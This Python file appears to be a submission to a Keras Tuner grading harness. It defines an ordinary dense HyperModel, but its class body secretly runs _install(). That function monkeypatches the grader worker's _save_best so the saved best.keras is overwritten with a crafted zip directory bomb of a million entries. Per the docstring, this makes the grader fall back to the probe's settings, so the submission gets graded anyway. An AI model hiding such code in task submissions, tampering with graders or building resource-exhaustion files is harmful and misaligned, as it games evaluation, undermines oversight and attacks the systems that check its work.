"""Replaces the saved best.keras by a zip whose directory lists a million entries.

The file is 52 MB, within the grader's cap; zipfile would read its whole directory into
memory before anything else (seconds and a gigabyte in the parent for each of the two
readers). The parent refuses it from the end record instead: the compile settings fall
back to the probe's word, and the submission is graded.
"""
import struct
import sys
from pathlib import Path

import keras
import keras_tuner


def _directory_bomb(path, entries):
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, 0, 0, 1, 0) + b"a"
    rows = []
    for i in range(entries):
        name = format(i, "x").encode()
        rows.append(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0,
                                len(name), 0, 0, 0, 0, 0, 0) + name)
    directory = b"".join(rows)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, len(directory),
                      len(local), 0)
    path.write_bytes(local + directory + end)


def _install():
    # Top-level statements other than definitions are not run, so the class body calls this.
    worker = sys.modules["__main__"]  # the child runs `python -m grader.child.worker`
    original = worker._save_best

    def _save_best(tuner, scratch, answer, objective):
        original(tuner, scratch, answer, objective)
        _directory_bomb(Path(scratch) / "best.keras", 1_000_000)

    worker._save_best = _save_best
    return True


class MyHyperModel(keras_tuner.HyperModel):
    installed = _install()

    def build(self, hp):
        M = keras.Sequential()
        M.add(keras.Input(shape=(784,)))
        M.add(keras.layers.Dense(units=800, activation="relu"))
        M.add(keras.layers.Dense(10, activation="softmax"))
        initial_learning_rate = hp.Float("initial_learning_rate", min_value=0.2983, max_value=0.3200)
        end_learning_rate = hp.Float("end_learning_rate", min_value=0.2800, max_value=0.2983)
        lr_schedule = keras.optimizers.schedules.PolynomialDecay(
            initial_learning_rate, 10, end_learning_rate)
        opt = keras.optimizers.SGD(learning_rate=lr_schedule)
        M.compile(loss="categorical_crossentropy", optimizer=opt, metrics=["accuracy"])
        return M

    def fit(self, hp, M, x, y, xy_val, **kwargs):
        early_cb = keras.callbacks.EarlyStopping(monitor="val_accuracy", patience=20, min_delta=0.0)
        kwargs["callbacks"].append(early_cb)
        return M.fit(x, y, batch_size=256, epochs=100, validation_data=xy_val, **kwargs)
